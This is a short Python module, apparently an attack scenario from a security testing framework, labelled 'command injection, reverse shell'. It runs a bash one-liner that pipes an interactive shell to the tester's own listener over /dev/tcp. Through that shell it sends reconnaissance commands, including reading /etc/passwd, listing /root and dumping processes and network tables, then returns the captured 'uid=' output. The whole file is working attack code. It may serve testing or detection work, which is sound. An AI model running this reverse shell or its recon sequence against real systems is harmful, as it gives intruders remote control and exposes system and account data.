# SPDX-License-Identifier: Apache-2.0
"""A shell whose input and output are a connection to the intruder, who looks around in it."""
import threading
import time

from attack import Listener, in_background

KIND = "command injection, reverse shell"
QUIET = False
SERVICES = dict.fromkeys(("python", "postgres", "nginx", "node", "ftp"))
LINES = ("id", "hostname", "cat /etc/passwd", "ls -la / /home /root", "ps aux", "cat /proc/net/tcp", "uname -a", "exit")


def attack(t):
    heard, over = [], threading.Event()

    def talk(connection):
        connection.settimeout(10)
        for line in LINES:
            connection.sendall((line + "\n").encode())
            time.sleep(0.5)
        while part := connection.recv(65536):
            heard.append(part)
        over.set()

    listener = Listener(talk)
    shell = in_background(t.run, f"bash -c 'exec bash -i >& /dev/tcp/{t.me}/{listener.port} 0>&1'")
    over.wait(20)
    shell.join(2)
    text = b"".join(heard).decode(errors="replace")
    return "uid=" + text.split("uid=")[1][:60] if "uid=" in text else ""
